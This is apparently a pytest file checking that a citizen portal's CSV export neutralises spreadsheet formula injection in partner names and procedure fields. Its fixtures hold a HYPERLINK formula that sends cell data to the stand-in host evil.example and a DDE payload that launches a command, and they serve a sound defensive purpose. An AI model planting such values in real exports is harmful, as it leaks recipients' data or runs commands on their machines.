"""Issue 11 §3: a partner's organisation name or démarche as a formula in the citizen's CSV."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy.orm import Session

from guichet.habilitation.models import Habilitation, Organisation
from guichet.spreadsheet import spreadsheet_cell
from tests.unit.portal.test_citizen import DUBOIS, World, journal, sign_in_as, utc

EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"Voir le détail")'
EVIL_DEMARCHES = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTabulée", "\rRetour", " =1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("value", [EVIL_NAME, *EVIL_DEMARCHES])
def test_every_formula_trigger_is_neutralised(value: str) -> None:
    assert spreadsheet_cell(value) == f"'{value}"


def test_plain_words_are_left_as_they_are() -> None:
    for value in ["Ville de Quimper", "Tarification de la cantine", "2026-07-14T10:30:00+02:00"]:
        assert spreadsheet_cell(value) == value


def _habilitation_like(s: Session, model: Habilitation, demarche: str) -> uuid.UUID:
    columns = {c.key: getattr(model, c.key) for c in Habilitation.__table__.columns}
    hab = Habilitation(**{**columns, "id": uuid.uuid4(), "demarche": demarche})
    s.add(hab)
    s.flush()
    return hab.id


@pytest.mark.anyio
async def test_the_citizen_downloads_no_formula(world: World) -> None:
    with world.runtime.session_factory() as s, s.begin():
        # The partner signed up under this name and wrote these démarches in its requests.
        s.get_one(
            Organisation, s.get_one(Habilitation, world.partner_a).organisation_id
        ).name = EVIL_NAME
        evil = [world.partner_a]
        for demarche in EVIL_DEMARCHES[1:]:
            copy = s.get_one(Habilitation, world.partner_a)
            evil.append(_habilitation_like(s, copy, demarche))
        s.get_one(Habilitation, world.partner_a).demarche = EVIL_DEMARCHES[0]
    for day, hab in enumerate(evil, start=1):
        journal(world, DUBOIS, hab, utc(f"2026-07-{day:02d}T08:30:00"))
    async with world.browser() as portal:
        await sign_in_as(world, portal)
        answer = await portal.get("/mes-donnees/echanges.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == len(EVIL_DEMARCHES)
    assert {r["partenaire"] for r in rows} == {f"'{EVIL_NAME}"}
    assert sorted(r["demarche"] for r in rows) == sorted(f"'{d}" for d in EVIL_DEMARCHES)
    for row in rows:
        for name, cell in row.items():
            assert not cell.lstrip(" ").startswith(TRIGGERS), (name, cell)
